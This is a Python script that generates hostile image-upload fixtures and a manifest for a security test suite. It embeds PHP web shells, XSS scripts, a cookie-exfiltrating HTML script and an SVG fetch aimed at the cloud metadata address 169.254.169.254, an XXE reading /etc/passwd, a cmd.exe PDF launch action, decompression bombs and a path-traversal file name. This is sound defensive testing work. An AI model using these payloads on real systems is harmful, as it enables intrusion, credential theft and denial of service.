"""Write the hostile upload files of the security suite to tests/fixtures/hostile/.

    python scripts/make_hostile_fixtures.py            # (re)write the folder
    python scripts/make_hostile_fixtures.py --check    # exit 1 if the folder is not what we write

Every file is built here, byte by byte or with Pillow at fixed settings, so the output is the
same on every run; `manifest.json` lists each file, what it attacks and what an upload path
must do with it, and `README.md` is the same list for people. The tests in tests/security/
read the manifest: a file added here is tested by every upload path without touching a test.

Bombs are small files that claim a huge size; the oversize files are stored as their head and
padded with zeros to `pad_to` bytes when a test uploads them, so the folder stays small.

Expectations: "refused" with the `reason` code of toolkit.logos.LogoError (format, damaged,
too_many_pixels, too_large, too_small, empty), or "neutralised" (accepted, re-encoded as a
clean PNG). `markers` are byte strings that must not survive into anything stored or served.
"""

from __future__ import annotations

import argparse
import gzip
import io
import json
import struct
import sys
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

from PIL import Image, ImageCms, ImageDraw

FOLDER = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "hostile"
LIMIT_BYTES = 5 * 1024 * 1024  # the logo upload limit (toolkit.logos.MAX_BYTES)


@dataclass(frozen=True)
class Hostile:
    name: str
    attack: str
    expect: str  # "refused" or "neutralised"
    reason: str = ""  # the LogoError code, for refused files
    upload_name: str = ""  # the file name the browser sends; the file's own name if empty
    pad_to: int = 0  # uploaded as the file followed by zeros up to this many bytes
    markers: list[str] = field(default_factory=list)
    stored_size: list[int] = field(default_factory=list)  # [width, height] once neutralised


# --- Building blocks -------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG_SIGNATURE = b"\x89PNG\r\n\x1a\n"


def png(
    width: int,
    height: int,
    *,
    depth: int = 8,
    colour: int = 2,
    rows: Callable[[], bytes] | None = None,
    before_idat: bytes = b"",
    after_idat: bytes = b"",
) -> bytes:
    """A PNG written by hand with the standard library's zlib (level 9)."""
    channels = {0: 1, 2: 3, 6: 4}[colour]
    row_bytes = (width * channels * depth + 7) // 8
    if rows is None:

        def rows() -> bytes:
            compressor = zlib.compressobj(9)
            out = []
            for y in range(height):
                row = bytes(((x * 7 + y * 3) // 4) % 256 for x in range(row_bytes))
                out.append(compressor.compress(b"\0" + row))
            out.append(compressor.flush())
            return b"".join(out)

    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + chunk(b"IHDR", header)
        + before_idat
        + chunk(b"IDAT", rows())
        + after_idat
        + chunk(b"IEND", b"")
    )


def zero_rows(width: int, height: int) -> Callable[[], bytes]:
    """A 1-bit image of zeros: megabytes of pixels, kilobytes of file."""
    total = height * (1 + (width + 7) // 8)  # filter byte 0, all pixels 0

    def rows() -> bytes:
        return zeros_deflated(total)

    return rows


def zeros_deflated(size: int) -> bytes:
    compressor = zlib.compressobj(9)
    block = b"\0" * (1 << 20)
    body = [compressor.compress(block) for _ in range(size >> 20)]
    body.append(compressor.compress(b"\0" * (size & ((1 << 20) - 1))))
    return b"".join(body) + compressor.flush()


def png_bomb(width: int, height: int) -> bytes:
    return png(width, height, depth=1, colour=0, rows=zero_rows(width, height))


def small_png(width: int = 64, height: int = 48) -> bytes:
    return png(width, height)


def pillow(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def picture(width: int = 96, height: int = 64) -> Image.Image:
    """A small drawing (not a flat colour, so encoders have something to do)."""
    image = Image.new("RGB", (width, height), (18, 35, 63))
    draw = ImageDraw.Draw(image)
    draw.rectangle((8, 8, width // 2, height // 2), fill=(217, 180, 90))
    draw.ellipse((width // 3, height // 3, width - 6, height - 6), fill=(200, 30, 40))
    return image


def small_jpeg(width: int = 96, height: int = 64, **options: object) -> bytes:
    return pillow(picture(width, height), "JPEG", quality=85, **options)


def jpeg_segments(data: bytes) -> list[tuple[int, int]]:
    """(marker, offset) of each marker segment before the first scan."""
    found, position = [], 2
    while position < len(data) and data[position] == 0xFF:
        marker = data[position + 1]
        found.append((marker, position))
        if marker == 0xDA:
            break
        position += 2 + int.from_bytes(data[position + 2 : position + 4], "big")
    return found


def jpeg_with_size(width: int, height: int) -> bytes:
    """A complete little JPEG whose frame header claims another size."""
    data = bytearray(small_jpeg(16, 16))
    for marker, offset in jpeg_segments(bytes(data)):
        if marker in (0xC0, 0xC1, 0xC2):
            data[offset + 5 : offset + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def jpeg_scan_bomb(repeats: int = 1000) -> bytes:
    """A 2000 x 2000 progressive JPEG whose last scan comes again `repeats` times: each scan
    walks every block again, so a small file costs minutes of decoding."""
    data = pillow(Image.new("RGB", (2000, 2000), (120, 130, 140)), "JPEG", progressive=True)
    position, last = 2, (0, 0)
    while data[position + 1] != 0xD9:
        length = int.from_bytes(data[position + 2 : position + 4], "big")
        end = position + 2 + length
        if data[position + 1] == 0xDA:
            while True:  # the scan's data runs to the next marker that is not stuffing
                end = data.find(b"\xff", end)
                if data[end + 1] != 0 and not 0xD0 <= data[end + 1] <= 0xD7:
                    break
                end += 2
            last = (position, end)
        position = end
    scan = data[last[0] : last[1]]
    return data[: last[1]] + scan * repeats + b"\xff\xd9"


def jpeg_insert(data: bytes, segment: bytes) -> bytes:
    """A marker segment put right after SOI."""
    return data[:2] + segment + data[2:]


def app_segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def webp_lossless(width: int = 16, height: int = 16) -> bytes:
    return pillow(picture(width, height), "WEBP", lossless=True, quality=100, method=0)


def webp_with_size(width: int, height: int) -> bytes:
    """A lossless WebP whose VP8L header claims another size (14 bits each, minus one)."""
    data = bytearray(webp_lossless())
    start = data.index(b"VP8L") + 8
    if data[start] != 0x2F:
        raise ValueError("Pillow wrote an unexpected lossless WebP")
    bits = int.from_bytes(data[start + 1 : start + 5], "little")
    bits = (bits & ~0x0FFFFFFF) | (width - 1) | ((height - 1) << 14)
    data[start + 1 : start + 5] = bits.to_bytes(4, "little")
    return bytes(data)


def xmp(marker: str) -> bytes:
    return (
        '<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        '<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" '
        f'exif:GPSLatitude="37,46.5N" exif:GPSLongitude="122,25.1W">{marker}'
        "<script>alert(document.domain)</script></rdf:Description></rdf:RDF></x:xmpmeta>"
        '<?xpacket end="w"?>'
    ).encode()


def exif_with_gps(marker: str, *, orientation: int = 1) -> bytes:
    """EXIF with a description, an orientation, a GPS position and a maker note."""
    exif = Image.Exif()
    exif[0x010E] = f"{marker}-DESCRIPTION <?php system($_GET['c']); ?>"
    exif[0x010F] = "HostileCam"
    exif[0x0112] = orientation
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (37.0, 46.0, 30.0)
    gps[3] = "W"
    gps[4] = (122.0, 25.0, 6.0)
    details = exif.get_ifd(0x8769)
    details[0x927C] = f"{marker}-MAKERNOTE serial 0042-1337 owner Jane Doe".encode()
    details[0x9286] = f"{marker}-USERCOMMENT"
    return exif.tobytes()


def icc_with_text(marker: str) -> bytes:
    """The sRGB profile with one more tag: a text holding markup and a marker."""
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    (count,) = struct.unpack(">I", profile[128:132])
    entries = [struct.unpack(">4sII", profile[132 + 12 * i : 144 + 12 * i]) for i in range(count)]
    shift = 12
    table = [(sig, offset + shift, size) for sig, offset, size in entries]
    body = profile[132 + 12 * count :]
    text = b"text\0\0\0\0" + f"{marker}-ICC <script>alert(1)</script>".encode() + b"\0"
    text += b"\0" * (-len(text) % 4)
    new_offset = 132 + 12 * (count + 1) + len(body)
    table.append((b"cprt", new_offset, len(text)))
    out = bytearray(profile[:128])
    out += struct.pack(">I", count + 1)
    for sig, offset, size in table:
        out += struct.pack(">4sII", sig, offset, size)
    out += body + text
    out[0:4] = struct.pack(">I", len(out))
    out[24:36] = struct.pack(">6H", 2026, 1, 1, 0, 0, 0)  # not today's date: same bytes each run
    out[84:100] = b"\0" * 16  # the profile ID no longer matches: say there is none
    return bytes(out)


def text_chunk(keyword: str, text: str) -> bytes:
    return chunk(b"tEXt", keyword.encode("latin-1") + b"\0" + text.encode("latin-1"))


def itxt_chunk(keyword: str, text: bytes) -> bytes:
    return chunk(b"iTXt", keyword.encode("latin-1") + b"\0\0\0\0\0" + text)


def ztxt_bomb(keyword: bytes, size: int) -> bytes:
    return keyword + b"\0\0" + zlib.compress(b"A" * size, 9)


def minimal_pdf(action: str) -> bytes:
    """A one-page PDF whose catalogue runs `action` when opened, with a correct xref table."""
    objects = [
        "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript << /Names "
        "[(x) 4 0 R] >> >> >>",
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        action,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{body}\nendobj\n".encode()
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


PDF_JAVASCRIPT = minimal_pdf(
    "<< /S /JavaScript /JS (app.alert('HOSTILE-PDF-JS'); "
    "this.submitForm('http://169.254.169.254/')) >>"
)
PDF_LAUNCH = minimal_pdf(
    "<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc.exe HOSTILE-PDF-LAUNCH) >> >>"
)

SVG_SCRIPT = b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" onload="alert(document.cookie)">
  <script>fetch('http://169.254.169.254/latest/meta-data/').then(r => r.text()).then(alert)</script>
  <rect width="200" height="100" fill="navy"/>
  <foreignObject width="200" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml"
    src="javascript:alert(1)"/></foreignObject>
</svg>
"""
SVG_XXE = b"""<?xml version="1.0"?>
<!DOCTYPE svg [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100"><text y="20">&xxe;</text></svg>
"""
SVG_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE svg [\n <!ENTITY a0 "ha">\n'
    + b"".join(f' <!ENTITY a{i} "{f"&a{i - 1};" * 10}">\n'.encode() for i in range(1, 10))
    + b']>\n<svg xmlns="http://www.w3.org/2000/svg"><text>&a9;</text></svg>\n'
)
GIF_JS = (
    b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00"
    b"!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    b"*/=1;alert(document.domain);//"
)
HTML = (
    b"<!DOCTYPE html><html><body><script>document.location='http://169.254.169.254/?c='"
    b"+document.cookie</script>HOSTILE-HTML</body></html>\n"
)
PHP = b"<?php system($_GET['cmd']); /* HOSTILE-PHP */ ?>\n"


def zip_archive(members: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=method, compresslevel=9) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = method
            archive.writestr(info, data)
    return out.getvalue()


def nested_zip_bomb() -> bytes:
    inner = zip_archive({"zeros.bin": b"\0" * (20 * 1024 * 1024)})
    return zip_archive({f"layer{i}.zip": inner for i in range(10)}, method=zipfile.ZIP_STORED)


def gif_bomb() -> bytes:
    """A GIF whose screen and frame claim 65535 x 65535 pixels."""
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0)
        + b"\0\0\0\xff\xff\xff"
        + b","
        + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0)
        + b"\x02\x02\x44\x01\x00;"
    )


def tiff_bomb() -> bytes:
    """A little-endian TIFF claiming 100000 x 100000 1-bit pixels in one deflated strip."""
    strip = zlib.compress(b"\0" * 100_000, 9)
    entries = [
        (256, 4, 1, 100_000),  # ImageWidth
        (257, 4, 1, 100_000),  # ImageLength
        (258, 3, 1, 1),  # BitsPerSample
        (259, 3, 1, 8),  # Compression: deflate
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 0),  # StripOffsets, patched below
        (278, 4, 1, 100_000),  # RowsPerStrip
        (279, 4, 1, len(strip)),  # StripByteCounts
    ]
    ifd_size = 2 + 12 * len(entries) + 4
    strip_offset = 8 + ifd_size
    out = bytearray(b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(entries)))
    for tag, kind, count, value in entries:
        value = strip_offset if tag == 273 else value
        packed = struct.pack("<H", value) + b"\0\0" if kind == 3 else struct.pack("<I", value)
        out += struct.pack("<HHI", tag, kind, count) + packed
    out += b"\0\0\0\0" + strip
    return bytes(out)


def apng_many_frames() -> bytes:
    """An animated PNG announcing two billion frames (it holds two)."""
    width, height = 64, 64
    control = struct.pack(">II", 2_000_000_000, 0)
    frame = struct.pack(">IIIIIHHBB", 0, width, height, 0, 0, 1, 1, 0, 0)
    second = struct.pack(">IIIIIHHBB", 1, width, height, 0, 0, 1, 1, 0, 0)
    data = zlib.compress(b"".join(b"\0" + b"\x80" * width * 3 for _ in range(height)), 9)
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        PNG_SIGNATURE
        + chunk(b"IHDR", header)
        + chunk(b"acTL", control)
        + chunk(b"fcTL", frame)
        + chunk(b"IDAT", data)
        + chunk(b"fcTL", second)
        + chunk(b"fdAT", struct.pack(">I", 2) + data)
        + chunk(b"IEND", b"")
    )


def png_with_metadata(marker: str) -> bytes:
    exif = exif_with_gps(marker)
    icc = icc_with_text(marker)
    return png(
        80,
        60,
        before_idat=(
            chunk(b"iCCP", b"hostile\0\0" + zlib.compress(icc, 9))
            + chunk(b"eXIf", exif[6:] if exif.startswith(b"Exif\0\0") else exif)
            + itxt_chunk("XML:com.adobe.xmp", xmp(marker))
            + text_chunk("Comment", f"{marker}-COMMENT <script>alert(1)</script>")
            + chunk(b"tIME", struct.pack(">HBBBBB", 2026, 1, 1, 0, 0, 0))
        ),
        after_idat=text_chunk("Author", f"{marker}-AFTER-IDAT Jane Doe, 12 Main St"),
    )


def jpeg_with_metadata(marker: str, *, orientation: int = 1) -> bytes:
    return pillow(
        picture(120, 80),
        "JPEG",
        quality=85,
        exif=exif_with_gps(marker, orientation=orientation),
        icc_profile=icc_with_text(marker),
        comment=f"{marker}-COMMENT <?php system($_GET['c']); ?>".encode(),
        xmp=xmp(marker),
    )


def webp_with_metadata(marker: str) -> bytes:
    return pillow(
        picture(80, 60),
        "WEBP",
        lossless=True,
        quality=100,
        method=0,
        exif=exif_with_gps(marker),
        icc_profile=icc_with_text(marker),
        xmp=xmp(marker),
    )


def exif_loop_jpeg() -> bytes:
    """EXIF whose first IFD points at itself as the next IFD and as its own EXIF sub-IFD."""
    ifd = struct.pack(">H", 2)
    ifd += struct.pack(">HHII", 0x0112, 3, 1, 6 << 16)  # orientation 6
    ifd += struct.pack(">HHII", 0x8769, 4, 1, 8)  # EXIF IFD: the same IFD again
    ifd += struct.pack(">I", 8)  # next IFD: the same IFD again
    tiff = b"MM\0*" + struct.pack(">I", 8) + ifd
    return jpeg_insert(small_jpeg(), app_segment(0xE1, b"Exif\0\0" + tiff))


def exif_garbage_jpeg() -> bytes:
    """EXIF announcing 65535 entries with offsets far past its end."""
    ifd = struct.pack(">H", 65535) + struct.pack(">HHII", 0x0112, 3, 0xFFFFFFF, 0x7FFFFFF0) * 40
    tiff = b"II*\0" + struct.pack("<I", 8) + ifd
    return jpeg_insert(small_jpeg(), app_segment(0xE1, b"Exif\0\0" + tiff))


def broken_icc_jpeg() -> bytes:
    icc = b"ICC_PROFILE\0\x01\x01" + struct.pack(">I", 0xFFFFFF) + b"HOSTILE-BAD-ICC" * 20
    return jpeg_insert(small_jpeg(), app_segment(0xE2, icc))


def truncated_webp() -> bytes:
    data = webp_lossless(64, 64)
    return data[: len(data) // 2]


def corrupt_idat_png() -> bytes:
    return png(40, 40, rows=lambda: b"\x78\x9c" + bytes(range(256)) * 4)


def bad_crc_png() -> bytes:
    data = bytearray(small_png())
    data[29] ^= 0xFF  # inside IHDR's checksum
    return bytes(data)


def idat_overflow_png() -> bytes:
    """A 32 x 32 image whose pixel stream runs on for 40 MB."""
    return png(32, 32, depth=1, colour=0, rows=zero_rows(32, 40 * 1024 * 1024 // 5))


def text_bomb_png(kind: bytes) -> bytes:
    if kind == b"zTXt":
        body = ztxt_bomb(b"Comment", 20 * 1024 * 1024)
    else:
        body = b"bomb\0\0" + zlib.compress(b"\0" * (20 * 1024 * 1024), 9)
    return png(64, 48, before_idat=chunk(kind, body))


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


def avif_logo() -> bytes:
    """The boxes an AVIF starts with, by hand: AV1 encoders do not give the same bytes on
    every machine, and the portal refuses the container before any decoding."""
    handler = box(b"hdlr", b"\0" * 8 + b"pict" + b"\0" * 13)
    size = box(b"ispe", b"\0" * 4 + struct.pack(">II", 64, 48))
    properties = box(b"iprp", box(b"ipco", size))
    meta = box(b"meta", b"\0" * 4 + handler + properties)
    return box(b"ftyp", b"avif\0\0\0\0avifmif1miaf") + meta + box(b"mdat", b"\0" * 32)


# --- The list --------------------------------------------------------------------------------

M = "HOSTILE"
FILES: list[tuple[Hostile, Callable[[], bytes]]] = [
    # Decompression bombs
    (
        Hostile(
            "bomb-png-20000x20000.png",
            "PNG bomb: 400 million pixels in 50 kB",
            "refused",
            "too_many_pixels",
        ),
        lambda: png_bomb(20_000, 20_000),
    ),
    (
        Hostile(
            "bomb-png-4001x4000.png",
            "PNG just over the pixel limit (16.004 MP): the boundary",
            "refused",
            "too_many_pixels",
        ),
        lambda: png_bomb(4001, 4000),
    ),
    (
        Hostile(
            "bomb-png-idat-overflow.png",
            "PNG of 32 x 32 pixels whose compressed pixel stream inflates to 40 MB",
            "refused",
            "damaged",
        ),
        idat_overflow_png,
    ),
    (
        Hostile(
            "bomb-png-ztxt.png",
            "PNG with a compressed text chunk that inflates to 20 MB",
            "refused",
            "damaged",
        ),
        lambda: text_bomb_png(b"zTXt"),
    ),
    (
        Hostile(
            "bomb-png-iccp.png",
            "PNG with a colour profile chunk that inflates to 20 MB",
            "refused",
            "damaged",
        ),
        lambda: text_bomb_png(b"iCCP"),
    ),
    (
        Hostile(
            "bomb-apng-frames.png",
            "Animated PNG announcing two billion frames",
            "neutralised",
            stored_size=[64, 64],
        ),
        apng_many_frames,
    ),
    (
        Hostile(
            "bomb-jpeg-65500x65500.jpg",
            "JPEG whose frame header claims 65500 x 65500 pixels",
            "refused",
            "too_many_pixels",
        ),
        lambda: jpeg_with_size(65500, 65500),
    ),
    (
        Hostile(
            "bomb-jpeg-8001x100.jpg",
            "JPEG longer than the longest side allowed (8000 pixels), few pixels in all",
            "refused",
            "too_many_pixels",
        ),
        lambda: jpeg_with_size(8001, 100),
    ),
    (
        Hostile(
            "bomb-jpeg-scans.jpg",
            "Progressive JPEG of 4 MP with its last scan repeated 1000 times (minutes of CPU)",
            "refused",
            "damaged",
        ),
        jpeg_scan_bomb,
    ),
    (
        Hostile(
            "bomb-webp-16383x16383.webp",
            "WebP whose lossless header claims 16383 x 16383 pixels",
            "refused",
            "too_many_pixels",
        ),
        lambda: webp_with_size(16383, 16383),
    ),
    (
        Hostile(
            "bomb-webp-5000x5000.webp",
            "WebP claiming 25 MP: under Pillow's own bomb limit, over ours",
            "refused",
            "too_many_pixels",
        ),
        lambda: webp_with_size(5000, 5000),
    ),
    (
        Hostile(
            "bomb-gif-65535x65535.gif",
            "GIF whose screen and frame claim 65535 x 65535 pixels",
            "refused",
            "format",
        ),
        gif_bomb,
    ),
    (
        Hostile(
            "bomb-tiff-100000x100000.tif",
            "TIFF claiming 10 billion pixels in one deflated strip",
            "refused",
            "format",
        ),
        tiff_bomb,
    ),
    (
        Hostile(
            "bomb-tiff-named.png",
            "The TIFF bomb named .png",
            "refused",
            "format",
            upload_name="logo.png",
        ),
        tiff_bomb,
    ),
    # Archives named as images
    (
        Hostile(
            "zipbomb.png",
            "ZIP named .png: one member of 20 MB of zeros",
            "refused",
            "format",
        ),
        lambda: zip_archive({"logo.png": b"\0" * (20 * 1024 * 1024)}),
    ),
    (
        Hostile(
            "zipbomb-nested.png",
            "ZIP named .png holding ten ZIPs of 20 MB each",
            "refused",
            "format",
        ),
        nested_zip_bomb,
    ),
    (
        Hostile(
            "gzipbomb.png",
            "gzip named .png: 20 MB of zeros",
            "refused",
            "format",
        ),
        lambda: gzip.compress(b"\0" * (20 * 1024 * 1024), 9, mtime=0),
    ),
    # Polyglots
    (
        Hostile(
            "polyglot-gif-js.gif",
            "GIF that is also JavaScript (GIFAR-style script include)",
            "refused",
            "format",
        ),
        lambda: GIF_JS,
    ),
    (
        Hostile(
            "polyglot-gif-js-named.png",
            "The GIF/JavaScript polyglot named .png",
            "refused",
            "format",
            upload_name="logo.png",
        ),
        lambda: GIF_JS,
    ),
    (
        Hostile(
            "polyglot-png-zip.png",
            "Valid PNG with a ZIP (holding HTML and PHP) appended after IEND",
            "neutralised",
            markers=[f"{M}-ZIP-PAYLOAD", "PK\x03\x04"],
            stored_size=[64, 48],
        ),
        lambda: (
            small_png()
            + zip_archive(
                {"index.html": HTML + f"{M}-ZIP-PAYLOAD".encode(), "shell.php": PHP},
                method=zipfile.ZIP_STORED,
            )
        ),
    ),
    (
        Hostile(
            "polyglot-png-html.png",
            "Valid PNG with an HTML page and script appended after IEND",
            "neutralised",
            markers=["HOSTILE-HTML", "<script"],
            stored_size=[64, 48],
        ),
        lambda: small_png() + HTML,
    ),
    (
        Hostile(
            "polyglot-jpeg-php-comment.jpg",
            "JPEG with a PHP web shell in its comment segment",
            "neutralised",
            markers=["<?php", f"{M}-COMMENT"],
            stored_size=[96, 64],
        ),
        lambda: small_jpeg(comment=f"{M}-COMMENT <?php system($_GET['c']); ?>".encode()),
    ),
    (
        Hostile(
            "polyglot-jpeg-pdf.jpg",
            "JPEG with a PDF (JavaScript on open) appended after the end-of-image marker",
            "neutralised",
            markers=["HOSTILE-PDF-JS", "%PDF"],
            stored_size=[96, 64],
        ),
        lambda: small_jpeg() + PDF_JAVASCRIPT,
    ),
    (
        Hostile(
            "polyglot-png-signature-html.png",
            "PNG signature followed by an HTML page instead of chunks",
            "refused",
            "damaged",
        ),
        lambda: PNG_SIGNATURE + HTML,
    ),
    # Truncated and corrupt
    (
        Hostile(
            "truncated-png-idat.png", "PNG cut in the middle of its pixels", "refused", "damaged"
        ),
        lambda: small_png(200, 150)[: len(small_png(200, 150)) // 2],
    ),
    (
        Hostile("truncated-png-no-iend.png", "PNG without its end chunk", "refused", "damaged"),
        lambda: small_png()[:-12],
    ),
    (
        Hostile(
            "png-bad-crc.png", "PNG whose header chunk checksum is wrong", "refused", "damaged"
        ),
        bad_crc_png,
    ),
    (
        Hostile(
            "png-corrupt-idat.png",
            "PNG with whole chunks and correct checksums but garbage pixel data",
            "refused",
            "damaged",
        ),
        corrupt_idat_png,
    ),
    (
        Hostile(
            "truncated-jpeg-scan.jpg", "JPEG cut in the middle of its scan", "refused", "damaged"
        ),
        lambda: small_jpeg(300, 200)[: len(small_jpeg(300, 200)) // 2],
    ),
    (
        Hostile(
            "truncated-jpeg-header.jpg",
            "JPEG that stops after its first segment",
            "refused",
            "damaged",
        ),
        lambda: small_jpeg()[:20],
    ),
    (
        Hostile("truncated-webp.webp", "WebP cut in half", "refused", "damaged"),
        truncated_webp,
    ),
    (
        Hostile("truncated-gif.gif", "GIF cut after its header", "refused", "format"),
        lambda: gif_bomb()[:13],
    ),
    # Active content
    (
        Hostile("svg-script.svg", "SVG with script, onload and an iframe", "refused", "format"),
        lambda: SVG_SCRIPT,
    ),
    (
        Hostile(
            "svg-script-named.png",
            "The scripted SVG named .png, sent as image/png",
            "refused",
            "format",
            upload_name="logo.png",
        ),
        lambda: SVG_SCRIPT,
    ),
    (
        Hostile(
            "svg-xxe.svg", "SVG with an external entity reading /etc/passwd", "refused", "format"
        ),
        lambda: SVG_XXE,
    ),
    (
        Hostile(
            "svg-billion-laughs.svg",
            "SVG with nested entities (billion laughs)",
            "refused",
            "format",
        ),
        lambda: SVG_LAUGHS,
    ),
    (
        Hostile("pdf-javascript.pdf", "PDF running JavaScript when opened", "refused", "format"),
        lambda: PDF_JAVASCRIPT,
    ),
    (
        Hostile("pdf-launch.pdf", "PDF with a launch action (cmd.exe)", "refused", "format"),
        lambda: PDF_LAUNCH,
    ),
    (
        Hostile(
            "pdf-javascript-named.jpg",
            "The JavaScript PDF named .jpg",
            "refused",
            "format",
            upload_name="logo.jpg",
        ),
        lambda: PDF_JAVASCRIPT,
    ),
    (
        Hostile("html-named.png", "An HTML page with script named .png", "refused", "format"),
        lambda: HTML,
    ),
    (
        Hostile("php-named.png", "A PHP web shell named .png", "refused", "format"),
        lambda: PHP,
    ),
    (
        Hostile(
            "exe-named.png",
            "A Windows executable header named .png",
            "refused",
            "format",
        ),
        lambda: b"MZ\x90\x00" + b"\0" * 56 + b"PE\0\0" + b"\0" * 60,
    ),
    (
        Hostile(
            "avif-logo.avif",
            "An AVIF (HEIF) container: a format the portal does not take",
            "refused",
            "format",
        ),
        avif_logo,
    ),
    # Size
    (
        Hostile(
            "oversize-png.png",
            "Valid PNG padded with zeros after IEND to one byte over 5 MB",
            "refused",
            "too_large",
            pad_to=LIMIT_BYTES + 1,
        ),
        small_png,
    ),
    (
        Hostile(
            "oversize-jpeg.jpg",
            "Valid JPEG padded with zeros to 12 MB",
            "refused",
            "too_large",
            pad_to=12 * 1024 * 1024,
        ),
        small_jpeg,
    ),
    (
        Hostile("empty.png", "An empty file", "refused", "empty"),
        lambda: b"",
    ),
    (
        Hostile("tiny-1x1.png", "A PNG of one pixel", "refused", "too_small"),
        lambda: png(1, 1),
    ),
    # Names
    (
        Hostile(
            "png-named.jpg",
            "A valid PNG sent as logo.jpg: the name is not the format",
            "neutralised",
            upload_name="logo.jpg",
            stored_size=[64, 48],
        ),
        small_png,
    ),
    (
        Hostile(
            "jpeg-named.exe",
            "A valid JPEG sent as logo.exe",
            "neutralised",
            upload_name="logo.exe",
            stored_size=[96, 64],
        ),
        small_jpeg,
    ),
    (
        Hostile(
            "name-traversal.png",
            "A valid PNG sent as ../../../../etc/cron.d/logo.png",
            "neutralised",
            upload_name="../../../../etc/cron.d/logo.png",
            stored_size=[64, 48],
        ),
        small_png,
    ),
    (
        Hostile(
            "name-rtl-override.png",
            "A valid PNG sent as a name hiding .php behind a right-to-left override",
            "neutralised",
            upload_name="logo\u202egnp.php",
            stored_size=[64, 48],
        ),
        small_png,
    ),
    # Metadata
    (
        Hostile(
            "exif-gps-makernote.jpg",
            "JPEG with EXIF (GPS position, maker note, PHP), XMP with GPS, "
            "an ICC profile holding script text and a comment",
            "neutralised",
            markers=[M, "<?php", "HostileCam", "ICC_PROFILE", "Exif\0\0"],
            stored_size=[120, 80],
        ),
        lambda: jpeg_with_metadata(M),
    ),
    (
        Hostile(
            "exif-gps-rotated.jpg",
            "The same JPEG with orientation 6: stored upright, metadata gone",
            "neutralised",
            markers=[M, "HostileCam"],
            stored_size=[80, 120],
        ),
        lambda: jpeg_with_metadata(M, orientation=6),
    ),
    (
        Hostile(
            "exif-gps-makernote.png",
            "PNG with eXIf (GPS, maker note), iTXt XMP, iCCP holding script text, tEXt before "
            "and after the pixels, and tIME",
            "neutralised",
            markers=[M, "HostileCam", "XML:com.adobe.xmp"],
            stored_size=[80, 60],
        ),
        lambda: png_with_metadata(M),
    ),
    (
        Hostile(
            "exif-gps-makernote.webp",
            "WebP with EXIF (GPS, maker note), XMP and an ICC profile holding script text",
            "neutralised",
            markers=[M, "HostileCam"],
            stored_size=[80, 60],
        ),
        lambda: webp_with_metadata(M),
    ),
    (
        Hostile(
            "exif-ifd-loop.jpg",
            "JPEG whose EXIF directory points at itself (a parser loop); orientation 6",
            "neutralised",
            stored_size=[64, 96],
        ),
        exif_loop_jpeg,
    ),
    (
        Hostile(
            "exif-garbage.jpg",
            "JPEG whose EXIF announces 65535 entries with offsets past its end",
            "neutralised",
            stored_size=[96, 64],
        ),
        exif_garbage_jpeg,
    ),
    (
        Hostile(
            "icc-broken.jpg",
            "JPEG with a colour profile that claims 16 MB and holds garbage",
            "neutralised",
            markers=["HOSTILE-BAD-ICC"],
            stored_size=[96, 64],
        ),
        broken_icc_jpeg,
    ),
]


def build(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for old in folder.iterdir():
        if old.is_file():
            old.unlink()
    entries = []
    for hostile, make in FILES:
        (folder / hostile.name).write_bytes(make())
        entry = {key: value for key, value in asdict(hostile).items() if value}
        entry.setdefault("upload_name", hostile.name)
        entries.append(entry)
    (folder / "manifest.json").write_text(json.dumps(entries, indent=1, ensure_ascii=True) + "\n")
